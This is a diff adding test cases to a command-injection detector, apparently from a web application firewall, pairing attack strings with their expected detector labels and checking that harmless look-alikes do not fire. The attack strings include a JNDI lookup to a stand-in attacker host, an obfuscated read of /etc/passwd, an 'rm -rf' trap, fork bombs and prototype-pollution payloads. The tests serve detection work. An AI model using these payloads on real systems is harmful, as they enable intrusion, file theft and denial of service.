@@ -63,6 +63,78 @@ describe('command injection detector', () => {
     expect(inspect(text, 1, text.startsWith('Opera') ? 'header.user-agent' : 'query.q')).toBeNull();
   });
 
+  it.each([
+    ['if (1) equ (1) echo hey', 'rce/batch'],
+    ['IF        (2 GEQ 15)             echo "bigger"', 'rce/batch'],
+    ['if not (2 equ 2) echo hey', 'rce/batch'],
+    ['if (%1)==(LTRS) CD C:\\WORD\\LTRS', 'rce/batch'],
+    ['FOR /F "tokens=1,2* delims=," %% IN (C:\\a.txt) DO ECHO %%', 'rce/batch'],
+    ['alias +g+ a=b', 'rce/alias'],
+    ['id;', 'rce/command-line'],
+    ["x;trap 'rm -rf file.txt' SIGEXIT", 'rce/separator'],
+    ['0.8462`echo crs312`', 'rce/substitution'],
+    ['${:1337:-x$}{jndi:ldap://evil.example/x}', 'rce/parameter-expansion'],
+    ["@{[system 'whoami']}", 'rce/perl-interpolation'],
+    ['@{[keys %ENV]}', 'rce/perl-interpolation'],
+    [':(){ :|:& };:', 'rce/fork-bomb'],
+    ['www.example.com;c$!at /et$!c/pas$!swd', 'rce/separator'],
+    ['x;who$?ami', 'rce/separator'],
+    ['pi$()ng 127.0.0.1', 'rce/command-line'],
+    ['whoami', 'rce/command-line'],
+    ['IPCONFIG', 'rce/command-line'],
+    ['pi<()ng 127.0.0.1', 'rce/command-line'],
+    ['cu$@rl google.com', 'rce/command-line'],
+    ['""p""y""t""h""o""n""3"".""1""0"" ""c""m""d""', 'rce/command-line'],
+    ['1; sleep 10', 'rce/separator'],
+    ['`sleep 5`', 'rce/substitution'],
+    ["x' || sleep 5 #", 'rce/separator'],
+    ['f(){ f|f& };f', 'rce/fork-bomb'],
+  ])('given the command %j, when inspected at paranoia 1, then it is a %s hit', (text, detector) => {
+    expect(inspect(text)?.detector).toBe(detector);
+  });
+
+  it.each([
+    'if you want more (or less) tell me',
+    'if (you) agree, go ahead',
+    'it is what it is; id card needed',
+    'identity;',
+    "I'd like 2 items",
+    'tired; sleep 8 hours tonight',
+    'see `` quotes',
+    'pwd',
+    'uname',
+    'id',
+    'whoamI am',
+    'a <() b',
+    'He said ""hello"" twice',
+    'sleep 10',
+    "I'd rather not",
+    'email me @ {home}',
+    'a || b && c {x}',
+    'see `npm test` for details',
+    '${price}',
+  ])('given the look-alike %j, when inspected at paranoia 1, then nothing fires', (text) => {
+    expect(inspect(text)).toBeNull();
+  });
+
+  it.each([
+    ['header.x-filename', '.htaccess'],
+    ['header.x-filename', 'wp-config.php.bak'],
+    ['header.x_filename', 'php.ini'],
+    ['body.config#filename', 'config.yml '],
+    ['header.x-file-name', 'mtrr'],
+  ])('given the upload of a restricted file name at %s (%j), when inspected, then it is an rce/restricted-file-upload hit', (point, name) => {
+    expect(inspect(name, 1, point)?.detector).toBe('rce/restricted-file-upload');
+  });
+
+  it.each([
+    ['header.x-filename', 'holiday.jpg'],
+    ['header.x-filename', 'my-wp-config-notes.jpg'],
+    ['query.q', '.htaccess'],
+  ])('given %s %j, when inspected, then no restricted upload fires', (point, name) => {
+    expect(inspect(name, 1, point)?.detector).not.toBe('rce/restricted-file-upload');
+  });
+
   it('given a command that is also a word, when it only follows a separator, then paranoia 2 takes it and 1 does not', () => {
     expect(inspect('news; more')).toBeNull();
     expect(inspect('news; more', 2)?.type).toBe('rce');
@@ -126,12 +198,42 @@ describe('command injection detector', () => {
     expect(inspect(text)).toBeNull();
   });
 
-  it('given Node.js code that only reads, when inspected, then paranoia 2 takes it and 1 does not', () => {
-    expect(inspect('process.env')).toBeNull();
-    expect(inspect('process.env', 2)?.detector).toBe('rce/node-process');
-    expect(inspect('function() {', 2)?.detector).toBe('rce/node-code');
-    expect(inspect('module.exports=', 2)?.detector).toBe('rce/node-code');
-    expect(inspect('console.info(1)')).toBeNull();
-    expect(inspect('console["info"](1)', 2)?.detector).toBe('rce/node-code');
+  it.each([
+    ['process.env', 'rce/node-process'],
+    ['process["env"]', 'rce/node-process'],
+    ['function() {', 'rce/node-code'],
+    ['module.exports=', 'rce/node-code'],
+    ['console.info(1)', 'rce/node-code'],
+    ['console["info"](1)', 'rce/node-code'],
+    ['console.info.call(this,1)', 'rce/node-code'],
+  ])('given the whole value %j, a probe for a Node.js eval, when inspected at paranoia 1, then it is a %s hit', (text, detector) => {
+    expect(inspect(text)?.detector).toBe(detector);
   });
+
+  it('given Node.js code that does something, when inspected, then paranoia 2 takes it and 1 does not', () => {
+    expect(inspect('console.log(process.env.HOME)')).toBeNull();
+    expect(inspect('console.log(process.env.HOME)', 2)?.detector).toBe('rce/node-code');
+    expect(inspect('module.exports = router')).toBeNull();
+    expect(inspect('module.exports = router', 2)?.detector).toBe('rce/node-code');
+    expect(inspect('process.env is how the app reads its settings')).toBeNull();
+  });
+
+  it.each([
+    '__proto__[isAdmin]',
+    '__proto__.test',
+    'constructor.prototype.test',
+    'constructor[prototype][test]',
+    'a[constructor][prototype]',
+    '{"title":{"__proto__":{"where":null}}}',
+    '__proto__',
+  ])('given the prototype pollution %j, when inspected at paranoia 1, then it is an rce/prototype-pollution hit', (text) => {
+    expect(inspect(text)?.detector).toBe('rce/prototype-pollution');
+  });
+
+  it.each(['Array.prototype.map is handy', 'the prototype of the car', 'my_proto_file', 'constructor of the class'])(
+    'given the look-alike %j, when inspected at paranoia 1, then no prototype pollution fires',
+    (text) => {
+      expect(inspect(text)?.detector).not.toBe('rce/prototype-pollution');
+    },
+  );
 });
